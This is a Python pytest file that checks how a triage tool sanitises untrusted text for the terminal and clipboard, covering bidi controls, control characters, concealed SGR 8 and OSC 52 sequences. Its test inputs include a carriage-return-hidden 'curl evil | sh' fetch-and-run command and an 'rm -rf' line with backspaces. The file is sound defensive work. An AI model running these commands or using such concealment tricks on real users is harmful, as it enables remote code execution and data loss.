"""Display and clipboard hygiene for untrusted text (issue #18): SGR 8 (concealed) and
bidi controls never reach the terminal raw; a copied line cannot carry CR, BS or BEL
into a shell."""

from __future__ import annotations

import pytest
from triagebench.parser.text import SGR_RE, clipboard_safe, has_controls, printable
from triagebench.tui.widgets.log_render import line_text

BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068",
        "\u2069", "\u200e", "\u200f", "\u061c"]


@pytest.mark.parametrize("char", BIDI)
def test_bidi_controls_are_shown_escaped(char: str) -> None:
    shown = printable(f"if admin{char} then")
    assert char not in shown and f"\\u{ord(char):04x}" in shown
    assert has_controls(char)


def test_every_c0_c1_and_esc_is_visible() -> None:
    text = "".join(chr(c) for c in [*range(0x00, 0x20), *range(0x7F, 0xA0)] if c not in (0x09, 0x0A))
    shown = printable(text, keep_tabs=False)
    assert all(ord(c) >= 0x20 and not 0x7F <= ord(c) < 0xA0 for c in shown)
    assert "\\e" in shown and "\\r" in shown and "\\x07" in shown and "\\x85" in shown
    assert printable("\u2028") == "\\u2028"


@pytest.mark.parametrize("sequence", ["\x1b[8m", "\x1b[1;8m", "\x1b[8;31m", "\x1b[08m",
                                      "\x1b[38;5;1;8m", "\x1b[;8m"])
def test_sgr_8_concealed_is_shown_escaped_in_the_log_view(sequence: str) -> None:
    assert SGR_RE.fullmatch(sequence) is None
    text = line_text(f"visible {sequence}secret\x1b[0m")
    assert "secret" in text.plain and "\\e[" in text.plain
    assert not any(span.style and getattr(span.style, "conceal", False) for span in text.spans)


@pytest.mark.parametrize("sequence", ["\x1b[0m", "\x1b[m", "\x1b[1;31m", "\x1b[38;5;8m",
                                      "\x1b[48;2;8;8;8m", "\x1b[28m", "\x1b[01;34m"])
def test_colour_sgr_is_still_rendered(sequence: str) -> None:
    assert SGR_RE.fullmatch(sequence) is not None
    assert "\\e" not in line_text(f"{sequence}info\x1b[0m").plain


def test_sgr_check_is_linear() -> None:
    # Each 38;5;N could be read two ways if the pattern were ambiguous: 2**5000 paths.
    assert SGR_RE.fullmatch("\x1b[" + "38;5;1;" * 5000 + "8m") is None


def test_clipboard_safe() -> None:
    copied = clipboard_safe("ls\r\nrm -rf /tmp/x\x08\x08\x07 \x1b[31mred\x1b[0m \x1b]52;c;aGk=\x07\tok\r")
    assert copied == "ls\nrm -rf /tmp/x\\x08\\x08\\x07 red \\e]52;c;aGk=\\x07\tok"
    assert clipboard_safe("echo safe\rcurl evil | sh") == "echo safe\\rcurl evil | sh"
    assert clipboard_safe("a\u202eb") == "a\\u202eb"
    assert clipboard_safe("\x1b[8mhidden\x1b[0m") == "hidden"
    assert clipboard_safe("plain text\nline two") == "plain text\nline two"
